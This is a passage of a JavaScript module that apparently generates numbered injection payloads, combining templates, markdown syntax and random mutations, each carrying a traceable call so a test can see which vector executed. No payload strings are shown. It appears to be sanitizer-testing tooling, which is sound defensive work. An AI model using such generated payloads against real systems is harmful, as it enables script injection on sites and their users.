  for (const place of PLACES) yield place.replaceAll('%', () => URLS[0]);
  for (const syntax of MARKDOWN) for (const basic of BASIC.slice(0, 4)) yield syntax.replaceAll('%', () => basic);
  for (const wrap of WRAPS) yield wrap.replace('%', () => BASIC[0]);
  for (const end of ENDS) yield end + BASIC[1];
}

/** Creates `count` distinct payloads: `{ n, text, isCore }`. */
export function payloads(count, seed) {
  const chance = random(seed);
  const vectors = new Set(core());
  const cores = vectors.size;
  while (vectors.size < count) {
    let text = base(chance);
    for (let remaining = chance.below(4); remaining > 0; remaining--) text = change(text, chance);
    // A vector without a call cannot be judged.
    if (text.includes(RUN) && text.length < 2000) vectors.add(text.toWellFormed());
  }
  return [...vectors].map((vector, index) => {
    const n = index + 1;
    const call = index < cores && chance.next() < 0.8 ? CALLS[0] : chance.pick(CALLS);
    return { n, text: vector.replaceAll(RUN, () => call(n)), isCore: index < cores };
  });
}

export { BASIC, RUN };
